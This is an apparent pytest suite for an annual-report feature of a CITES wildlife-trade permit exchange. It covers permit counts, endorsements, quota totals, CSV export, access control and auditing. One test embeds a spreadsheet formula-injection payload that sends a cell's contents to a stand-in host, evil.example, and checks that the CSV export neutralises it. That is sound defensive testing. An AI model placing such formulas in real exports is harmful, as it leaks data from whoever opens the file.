"""The annual-report trade data (Art. VIII.7) over HTTP and from the command line, on a demo
node with real signed permits, real endorsements and a cancellation, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner
from sqlalchemy import select

from epix.audit.models import AuditEvent
from epix.auth import service as users
from epix.auth.principal import Role
from epix.cli.main import cli
from epix.compliance.taxonomy import taxonomy
from epix.exchange.models import Message, Permit
from epix.permits.model import DOC_IMPORT_PERMIT, DocumentRef
from epix.permits.model import Permit as PermitModel
from epix.permits.samples import demo_permit
from epix.permits.writer import write_permit
from epix.registry import service as registry_service
from epix.registry.roles import MANAGEMENT_AUTHORITY
from epix.reports.records import COLUMNS
from epix.settings import get_settings
from epix.signatures.sign import sign_document
from tests.exchange.conftest import Node, headers
from tests.pki import make_identity

pytestmark = pytest.mark.anyio
MA = "management_authority"
THIS_YEAR = datetime.now(UTC).year


def auth(node: Node, party: str, role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {node.key(party, role)}"}


@dataclass
class Trade:
    """The permits of one year's trade between XA and XB, as the node saw it."""

    shipped: str  # export endorsed at XA's border (one line, less than permitted), then imported
    unused: str  # issued, never endorsed
    cancelled: str  # issued, then cancelled
    arrived: str  # not endorsed at export; XB's customs endorsed its import


async def _submit(client: httpx.AsyncClient, node: Node, number: str) -> None:
    await _submit_permit(client, node, demo_permit(number=number, lines=2))


async def _submit_permit(
    client: httpx.AsyncClient, node: Node, permit: PermitModel, issuer: str = "XA"
) -> None:
    """``permit`` signed by ``issuer``'s Management Authority and submitted for the other of XA
    and XB."""
    key_pem, cert_pem = node.demo.signing_identity(issuer)
    response = await client.post(
        "/v1/messages",
        content=sign_document(write_permit(permit), key_pem, cert_pem),
        headers=headers(
            node.key(issuer, MA), sender=issuer, recipient="XA" if issuer == "XB" else "XB"
        ),
    )
    assert response.status_code == 201, response.text


async def _endorse(
    client: httpx.AsyncClient,
    node: Node,
    number: str,
    side: str,
    quantity: str,
    *,
    issuer: str = "XA",
    line_ids: tuple[str, ...] = ("1",),
    on: date | None = None,
) -> None:
    party = "XA" if side == "export" else "XB"
    response = await client.post(
        f"/v1/permits/{issuer}/{number}/endorsements",
        json={
            "side": side,
            "port": f"{party}ABC",
            "date": (on or date.today()).isoformat(),
            "officer": "Officer Jane Roe",
            "transport_document": "AWB 176-12345675",
            "lines": [
                {"line_id": line_id, "quantity": quantity, "unit": "NAR"} for line_id in line_ids
            ],
        },
        headers=auth(node, party, "customs"),
    )
    assert response.status_code == 201, response.text


@pytest.fixture
async def trade(client: httpx.AsyncClient, node: Node) -> Trade:
    trade = Trade("XA-AR-SHIPPED", "XA-AR-UNUSED", "XA-AR-CANCELLED", "XA-AR-ARRIVED")
    for number in (trade.shipped, trade.unused, trade.cancelled, trade.arrived):
        await _submit(client, node, number)
    await _endorse(client, node, trade.shipped, "export", "120")
    await _endorse(client, node, trade.shipped, "import", "118")
    await _endorse(client, node, trade.arrived, "import", "150")
    cancelled = await client.post(
        f"/v1/permits/XA/{trade.cancelled}/cancel", json={}, headers=auth(node, "XA", MA)
    )
    assert cancelled.status_code == 200, cancelled.text
    return trade


def _records(report: dict[str, Any]) -> list[tuple[str, str, str, str, str, str]]:
    return sorted(
        (r["permit_number"], r["direction"], r["taxon"], r["quantity"], r["unit"], r["basis"])
        for r in report["records"]
    )


async def test_the_exporters_report_counts_permits_and_records_what_crossed(
    client: httpx.AsyncClient, node: Node, trade: Trade
) -> None:
    response = await client.get(f"/v1/reports/annual/XA/{THIS_YEAR}", headers=auth(node, "XA", MA))
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["permits_granted"] == {"E": 4}
    assert report["permits_withdrawn"] == {"cancelled": 1}
    assert report["unreadable_permits"] == []
    python, crocodile = "Python reticulatus", "Crocodylus niloticus"
    assert _records(report) == sorted(
        [
            # endorsed at export: only the line that crossed, at the endorsed quantity
            (trade.shipped, "export", python, "120", "NAR", "export endorsed"),
            # nothing endorsed: every line at what the permit allowed
            (trade.unused, "export", python, "150", "NAR", "permit issued"),
            (trade.unused, "export", crocodile, "400", "NAR", "permit issued"),
            # no export endorsement: the import inspection is the evidence of the export
            (trade.arrived, "export", python, "150", "NAR", "import endorsed"),
        ]
    )
    shipped = next(r for r in report["records"] if r["permit_number"] == trade.shipped)
    assert shipped["exporter"] == "XA" and shipped["importer"] == "XB"
    assert shipped["term"] == "SKI" and shipped["appendix"] == "II"
    assert shipped["purpose"] == "T" and shipped["source"] == "W"
    assert shipped["port"] == "XAABC" and shipped["endorsed_on"] == date.today().isoformat()
    assert shipped["year"] == str(THIS_YEAR)


async def test_the_importers_report_has_what_its_customs_found(
    client: httpx.AsyncClient, node: Node, trade: Trade
) -> None:
    response = await client.get(f"/v1/reports/annual/XB/{THIS_YEAR}", headers=auth(node, "XB", MA))
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["permits_granted"] == {}
    python = "Python reticulatus"
    assert _records(report) == sorted(
        [
            (trade.shipped, "import", python, "118", "NAR", "import endorsed"),
            (trade.arrived, "import", python, "150", "NAR", "import endorsed"),
        ]
    )


def _shipment(
    import_number: str, export_number: str, named_as: str | None = None, document_type: str = "E"
) -> tuple[PermitModel, PermitModel]:
    """An Appendix I shipment's two documents: XB's import permit for a python and a crocodile,
    and XA's export document for the python, naming the import permit (911) as ``named_as``
    (else by its number)."""
    import_permit = demo_permit(
        number=import_number,
        document_type="I",
        exporter_country="XA",
        importer_country="XB",
        lines=2,
    )
    authority = import_permit.issuing_authority
    import_permit = replace(
        import_permit,
        issuing_authority=replace(authority, address=replace(authority.address, country="XB")),
        place_of_issue_id="XBNVC",
    )
    export_document = demo_permit(number=export_number, document_type=document_type, lines=1)
    names_import_permit = DocumentRef(id=named_as or import_number, type_code=DOC_IMPORT_PERMIT)
    line = replace(export_document.lines[0], import_permit=names_import_permit)
    return import_permit, replace(export_document, lines=(line,))


@pytest.mark.parametrize("named_as", ["XB-AR-IMPORT", "xb - ar - import"])
async def test_a_shipment_endorsed_on_both_its_permits_is_imported_once(
    client: httpx.AsyncClient, node: Node, named_as: str
) -> None:
    """XB's import permit covers a python and a crocodile; XA's export permit names it (911) and
    carries the python only. XB's customs endorse both documents on arrival: the python is one
    import in XB's report (on the export permit, as importers report), the crocodile, which came
    on no export document here, stays on the import permit's record. The export permit may write
    the number otherwise than it is printed (case, spaces): it names the same permit, compared
    as permit numbers are (``printed_number``); matched as written it used to count the python
    twice."""
    import_permit, export_permit = _shipment("XB-AR-IMPORT", "XA-AR-PAIRED", named_as)
    await _submit_permit(client, node, import_permit, issuer="XB")
    await _submit_permit(client, node, export_permit)
    await _endorse(client, node, "XA-AR-PAIRED", "import", "100")
    await _endorse(client, node, "XB-AR-IMPORT", "import", "100", issuer="XB", line_ids=("1", "2"))

    response = await client.get(f"/v1/reports/annual/XB/{THIS_YEAR}", headers=auth(node, "XB", MA))
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["permits_granted"] == {"I": 1}
    assert _records(report) == sorted(
        [
            ("XA-AR-PAIRED", "import", "Python reticulatus", "100", "NAR", "import endorsed"),
            ("XB-AR-IMPORT", "import", "Crocodylus niloticus", "100", "NAR", "import endorsed"),
        ]
    )


def _valid_this_year(permit: PermitModel) -> PermitModel:
    """``permit`` issued on 1 January at 00:30 in a zone three hours ahead of UTC (still 31
    December in UTC) and valid to the end of the year: customs may endorse it on 31 December
    (a day's slack for the officer's local date) and today."""
    issued = datetime(THIS_YEAR, 1, 1, 0, 30, tzinfo=timezone(timedelta(hours=3)))
    return replace(
        permit,
        issued_at=issued,
        valid_from=issued,
        valid_until=datetime(THIS_YEAR, 12, 31, 23, 59, tzinfo=issued.tzinfo),
    )


@pytest.mark.parametrize("export_document_first", [True, False])
async def test_a_shipment_endorsed_either_side_of_new_year_is_imported_once(
    client: httpx.AsyncClient, node: Node, export_document_first: bool
) -> None:
    """XB's customs endorse the two documents of one shipment on arrival, one on 31 December
    and the other on 1 January: the python is imported in the year of its export document's
    endorsement (its record rests on that document) and in no other; the crocodile, on the
    import permit only, in the year of the import permit's. The import permit's endorsement
    used to add the python again in its own year. (An export permit is valid six months, so
    the export document here is a certificate, type O, valid through the year.)"""
    import_permit, certificate = _shipment("XB-NY-IMPORT", "XA-NY-CERT", document_type="O")
    await _submit_permit(client, node, _valid_this_year(import_permit), issuer="XB")
    await _submit_permit(client, node, _valid_this_year(certificate))
    new_years_eve, new_years_day = date(THIS_YEAR - 1, 12, 31), date(THIS_YEAR, 1, 1)
    on_certificate, on_import_permit = (
        (new_years_eve, new_years_day) if export_document_first else (new_years_day, new_years_eve)
    )
    await _endorse(client, node, "XA-NY-CERT", "import", "100", on=on_certificate)
    await _endorse(
        client,
        node,
        "XB-NY-IMPORT",
        "import",
        "100",
        issuer="XB",
        line_ids=("1", "2"),
        on=on_import_permit,
    )

    imported = {}
    for year in (THIS_YEAR - 1, THIS_YEAR):
        response = await client.get(f"/v1/reports/annual/XB/{year}", headers=auth(node, "XB", MA))
        assert response.status_code == 200, response.text
        imported[year] = _records(response.json())
    python = ("XA-NY-CERT", "import", "Python reticulatus", "100", "NAR", "import endorsed")
    crocodile = ("XB-NY-IMPORT", "import", "Crocodylus niloticus", "100", "NAR", "import endorsed")
    assert imported[on_certificate.year] == [python]
    assert imported[on_import_permit.year] == [crocodile]
    # XA's export of it: in the year of the only endorsement it has, the import inspection.
    exported = []
    for year in (THIS_YEAR - 1, THIS_YEAR):
        response = await client.get(f"/v1/reports/annual/XA/{year}", headers=auth(node, "XA", MA))
        exported += [(year, record[:3]) for record in _records(response.json())]
    assert exported == [(on_certificate.year, ("XA-NY-CERT", "export", "Python reticulatus"))]


async def test_a_permit_is_counted_in_one_year_only(
    client: httpx.AsyncClient, node: Node, trade: Trade
) -> None:
    """Last year's report holds none of this year's permits, and no year is over."""
    response = await client.get(
        f"/v1/reports/annual/XA/{THIS_YEAR - 1}", headers=auth(node, "XA", MA)
    )
    assert response.status_code == 200, response.text
    assert response.json()["records"] == []
    assert response.json()["permits_granted"] == {}


async def test_csv_has_the_documented_columns_and_a_row_per_record(
    client: httpx.AsyncClient, node: Node, trade: Trade
) -> None:
    secretariat = auth(node, "CITES", "secretariat")
    as_json = await client.get(f"/v1/reports/annual/XA/{THIS_YEAR}", headers=secretariat)
    response = await client.get(
        f"/v1/reports/annual/xa/{THIS_YEAR}", params={"format": "csv"}, headers=secretariat
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert f'filename="XA-{THIS_YEAR}-annual-report.csv"' in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text)))
    assert tuple(rows[0]) == COLUMNS
    assert [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]] == as_json.json()["records"]
    assert sum(Decimal(row[COLUMNS.index("quantity")]) for row in rows[1:]) == Decimal(
        "820"
    )  # 120 + 150 + 400 + 150


@pytest.mark.parametrize(
    ("party", "role", "status", "code"),
    [
        ("XB", MA, 403, "EPIX-AUTH-005"),  # another Party's Management Authority
        ("XA", "customs", 403, "EPIX-AUTH-004"),  # customs do not read annual reports
    ],
)
async def test_only_the_party_and_the_secretariat_read_its_report(
    client: httpx.AsyncClient, node: Node, party: str, role: str, status: int, code: str
) -> None:
    response = await client.get(
        f"/v1/reports/annual/XA/{THIS_YEAR}", headers=auth(node, party, role)
    )
    assert response.status_code == status, response.text
    assert response.json()["code"] == code


@pytest.mark.parametrize("year", [1974, THIS_YEAR + 1])
async def test_a_year_outside_the_convention_is_refused_and_audited(
    client: httpx.AsyncClient, node: Node, year: int
) -> None:
    response = await client.get(f"/v1/reports/annual/XA/{year}", headers=auth(node, "XA", MA))
    assert response.status_code == 422, response.text
    problem = response.json()
    assert problem["code"] == "EPIX-REQ-004"
    assert problem["errors"][0]["location"] == "year"
    assert "between 1975" in problem["detail"] and f"and {THIS_YEAR}." in problem["detail"]
    with node.database.read() as session:
        event = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "report.annual")
        ).one()
    assert (event.outcome, event.party) == ("EPIX-REQ-004", "XA")


async def test_each_read_is_audited_with_the_reader(
    client: httpx.AsyncClient, node: Node, trade: Trade
) -> None:
    refused = await client.get(f"/v1/reports/annual/XA/{THIS_YEAR}", headers=auth(node, "XB", MA))
    assert refused.status_code == 403
    read = await client.get(
        f"/v1/reports/annual/XA/{THIS_YEAR}",
        params={"format": "csv"},
        headers=auth(node, "XA", MA),
    )
    assert read.status_code == 200
    with node.database.read() as session:
        events = session.scalars(
            select(AuditEvent)
            .where(AuditEvent.action == "report.annual")
            .order_by(AuditEvent.sequence)
        ).all()
    assert [(e.outcome, e.party) for e in events] == [("EPIX-AUTH-005", "XA"), ("ok", "XA")]
    assert json.loads(events[1].detail) == {"year": THIS_YEAR, "format": "csv", "records": 4}


@pytest.fixture
def runner(node: Node, monkeypatch: pytest.MonkeyPatch) -> Iterator[CliRunner]:
    monkeypatch.setenv("EPIX_DATA_DIR", str(node.settings.data_dir))
    monkeypatch.setenv("EPIX_DATABASE_URL", node.database.url)
    get_settings.cache_clear()
    yield CliRunner()
    get_settings.cache_clear()


async def test_the_command_writes_the_same_report(
    client: httpx.AsyncClient, node: Node, trade: Trade, runner: CliRunner, tmp_path: Path
) -> None:
    over_http = await client.get(
        f"/v1/reports/annual/XA/{THIS_YEAR}", params={"format": "csv"}, headers=auth(node, "XA", MA)
    )
    target = tmp_path / "xa.csv"
    result = runner.invoke(
        cli, ["report", "annual", "XA", str(THIS_YEAR), "--format", "csv", "--output", str(target)]
    )
    assert result.exit_code == 0, result.output
    assert target.read_bytes() == over_http.content  # RFC 4180 line ends kept
    as_json = runner.invoke(cli, ["report", "annual", "xa", str(THIS_YEAR)])
    assert as_json.exit_code == 0, as_json.output
    assert json.loads(as_json.output)["permits_granted"] == {"E": 4}
    refused = runner.invoke(cli, ["report", "annual", "XA", "1974"])
    assert refused.exit_code == 1
    assert "EPIX-REQ-004" in refused.output
    nowhere = tmp_path / "no-such-folder" / "xa.csv"
    unwritable = runner.invoke(
        cli, ["report", "annual", "XA", str(THIS_YEAR), "--output", str(nowhere)]
    )
    assert unwritable.exit_code == 1, unwritable.output
    assert isinstance(unwritable.exception, SystemExit)  # said, not a traceback
    assert f"Error: {nowhere} cannot be written: No such file or directory." in unwritable.output


async def test_quota_use_adds_up_the_years_permits(client: httpx.AsyncClient, node: Node) -> None:
    """Tanzania's published quota for wild Nile crocodiles is 1,600 a year (UNEP-WCMC data).
    Two permits of 1,000 and 800 skins are each within it, so screening, which sees one permit
    at a time, says nothing; the year's report adds them up: 1,800, over the quota. A third
    permit's two lines in kilograms cannot be counted: the permit is named once."""
    identity = make_identity("TZ Management Authority (TEST)", party="TZ")
    with node.database.unit_of_work() as session:
        secretariat = users.principal_of(users.get_user(session, "cites-secretariat"))
        registry_service.add_party(session, code="TZ", name="Tanzania", actor=secretariat)
        authority = registry_service.add_authority(
            session, party="TZ", kind=MANAGEMENT_AUTHORITY, name="TZ MA", actor=secretariat
        )
        registry_service.add_certificate(
            session, authority_id=authority.id, pem=identity.cert_pem, actor=secretariat
        )
        user = users.create_user(
            session,
            username="tz-ma",
            party="TZ",
            authority="TZ MA",
            roles=[Role.MANAGEMENT_AUTHORITY],
        )
        _, tz_key = users.issue_api_key(session, user)
    for number, skins, unit, lines in (
        ("TZ-CROC-1", 1000, "NAR", 1),
        ("TZ-CROC-2", 800, "NAR", 1),
        ("TZ-CROC-3", 50, "KIL", 2),
    ):
        permit = demo_permit(number=number, exporter_country="TZ", importer_country="XB", lines=1)
        crocodiles = tuple(
            replace(
                permit.lines[0],
                line_id=str(line),
                scientific_name="Crocodylus niloticus",
                common_name="Nile crocodile",
                description="raw skins",
                term="SKI",
                appendix="II",
                source="W",
                quantity=Decimal(skins),
                unit=unit,
                quota_used=None,
                annual_quota=None,
                quota_unit=None,
            )
            for line in range(1, lines + 1)
        )
        body = sign_document(
            write_permit(replace(permit, lines=crocodiles)), identity.key_pem, identity.cert_pem
        )
        sent = await client.post(
            "/v1/messages", content=body, headers=headers(tz_key, sender="TZ", recipient="XB")
        )
        assert sent.status_code == 201, sent.text
        assert "EPIX-COMP-001" not in sent.text  # each permit alone is within the quota

    response = await client.get(
        f"/v1/reports/annual/TZ/{THIS_YEAR}", headers=auth(node, "CITES", "secretariat")
    )
    assert response.status_code == 200, response.text
    [use] = response.json()["quota_use"]
    assert (use["taxon"], use["exporter"], use["quota"], use["used"], use["over"]) == (
        "Crocodylus niloticus",
        "TZ",
        "1600",
        "1800",
        True,
    )
    assert use["permits"] == ["TZ-CROC-1", "TZ-CROC-2"]
    assert use["not_counted_other_unit"] == ["TZ-CROC-3"]


async def test_a_permit_counts_in_the_year_of_its_box_13_date(
    client: httpx.AsyncClient, node: Node
) -> None:
    """Box 13 says 1 January at 00:30 in the issuing Party's zone (UTC+3), which is still
    31 December in UTC: the permit was granted in the year its date says, the one its record
    shows as issued_on, not in the year before."""
    issued = datetime(THIS_YEAR, 1, 1, 0, 30, tzinfo=timezone(timedelta(hours=3)))
    permit = demo_permit(number="XA-AR-NEWYEAR", document_type="I")
    permit = replace(
        permit,
        issued_at=issued,
        valid_from=issued,
        valid_until=datetime(THIS_YEAR, 12, 31, 23, 59, tzinfo=issued.tzinfo),
    )
    await _submit_permit(client, node, permit)
    this_year = await client.get(f"/v1/reports/annual/XA/{THIS_YEAR}", headers=auth(node, "XA", MA))
    last_year = await client.get(
        f"/v1/reports/annual/XA/{THIS_YEAR - 1}", headers=auth(node, "XA", MA)
    )
    assert this_year.status_code == last_year.status_code == 200
    assert this_year.json()["permits_granted"] == {"I": 1}
    assert last_year.json()["permits_granted"] == {}


async def test_csv_cells_from_another_partys_permit_are_never_spreadsheet_formulas(
    client: httpx.AsyncClient, node: Node
) -> None:
    """Box 7 is free text that XA signs; XB's Management Authority opens XB's import records
    in a spreadsheet, which would run a cell starting with =, +, - or @ as a formula. Such a
    cell starts with an apostrophe in the CSV (the JSON keeps the text as signed)."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Python reticulatus")'
    permit = demo_permit(number="XA-AR-FORMULA", lines=1)
    permit = replace(permit, lines=(replace(permit.lines[0], scientific_name=formula),))
    await _submit_permit(client, node, permit)
    await _endorse(client, node, "XA-AR-FORMULA", "import", "10")
    as_csv = await client.get(
        f"/v1/reports/annual/XB/{THIS_YEAR}", params={"format": "csv"}, headers=auth(node, "XB", MA)
    )
    as_json = await client.get(f"/v1/reports/annual/XB/{THIS_YEAR}", headers=auth(node, "XB", MA))
    assert as_csv.status_code == as_json.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert row["taxon"] == "'" + formula
    assert row["quantity"] == "10"
    assert as_json.json()["records"][0]["taxon"] == formula


@pytest.fixture
def unreadable_speciesplus(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """EPIX_SPECIESPLUS_DIR holding a file that is not JSON; the taxonomy read again after."""
    folder = tmp_path / "speciesplus"
    folder.mkdir()
    (folder / "taxon_concepts_broken.json").write_text("{not json", encoding="utf-8")
    monkeypatch.setenv("EPIX_SPECIESPLUS_DIR", str(folder))
    taxonomy.cache_clear()
    yield folder
    taxonomy.cache_clear()


async def test_the_command_names_an_unreadable_speciesplus_file_without_a_traceback(
    client: httpx.AsyncClient,
    node: Node,
    trade: Trade,
    runner: CliRunner,
    unreadable_speciesplus: Path,
) -> None:
    """Quota use reads the Species+ taxonomy; a broken operator file stops the command with
    its name (as `epix serve` and `epix validate` do), never a traceback."""
    result = runner.invoke(cli, ["report", "annual", "XA", str(THIS_YEAR)])
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit)
    assert "taxon_concepts_broken.json is not a readable JSON file" in result.output


async def test_an_unreadable_permit_is_listed_only_in_the_reports_of_its_parties(
    client: httpx.AsyncClient, node: Node, trade: Trade
) -> None:
    """A permit whose stored signature no longer verifies is named in the reports of the
    Party that issued it and of the one that imported it, not in a third Party's."""
    with node.database.unit_of_work() as session:
        permit = session.scalars(select(Permit).where(Permit.number == trade.arrived)).one()
        message = session.get(Message, permit.message_pk)
        assert message is not None and b"Python reticulatus" in message.body
        message.body = message.body.replace(b"Python reticulatus", b"Python regius", 1)
    secretariat = auth(node, "CITES", "secretariat")
    unreadable = {}
    for party in ("XA", "XB", "XC"):
        response = await client.get(f"/v1/reports/annual/{party}/{THIS_YEAR}", headers=secretariat)
        assert response.status_code == 200, response.text
        unreadable[party] = response.json()["unreadable_permits"]
    named = [f"XA {trade.arrived}"]
    assert unreadable == {"XA": named, "XB": named, "XC": []}


@pytest.mark.parametrize("party", ["", "K", "ABCDEFGHIJKLMNOPQ", "K1", "XA;"])
async def test_the_command_refuses_what_names_no_party(
    node: Node, runner: CliRunner, party: str
) -> None:
    """The API takes 2 to 8 letters; the command the same, before reading or auditing anything
    (an audit event's Party holds 8 characters: PostgreSQL refused a longer one as a database
    failure)."""
    result = runner.invoke(cli, ["report", "annual", party, str(THIS_YEAR)])
    assert result.exit_code == 2, result.output
    assert "is not a Party code" in result.output
    with node.database.read() as session:
        assert (
            session.scalars(select(AuditEvent).where(AuditEvent.action == "report.annual")).all()
            == []
        )


async def test_an_import_permit_valid_to_the_last_day_of_the_calendar_reports(
    client: httpx.AsyncClient, node: Node
) -> None:
    """An import permit valid to 31 December 9999 (box 2 names no start; issued in 9999, within
    the twelve months an import permit may run), imported this year: the report looks for
    export documents endorsed on import while it was valid, a day's slack either side. The
    day after the last one could not be computed: a 500 instead of the report."""
    import_permit, _ = _shipment("XB-LATE-IMPORT", "XA-LATE-UNUSED")
    late = replace(
        import_permit,
        issued_at=datetime(9999, 6, 1, tzinfo=UTC),
        valid_from=None,
        valid_until=datetime(9999, 12, 31, tzinfo=UTC),
    )
    await _submit_permit(client, node, late, issuer="XB")
    await _endorse(
        client, node, "XB-LATE-IMPORT", "import", "100", issuer="XB", line_ids=("1", "2")
    )
    response = await client.get(f"/v1/reports/annual/XB/{THIS_YEAR}", headers=auth(node, "XB", MA))
    assert response.status_code == 200, response.text
    assert [record[0] for record in _records(response.json())] == ["XB-LATE-IMPORT"] * 2
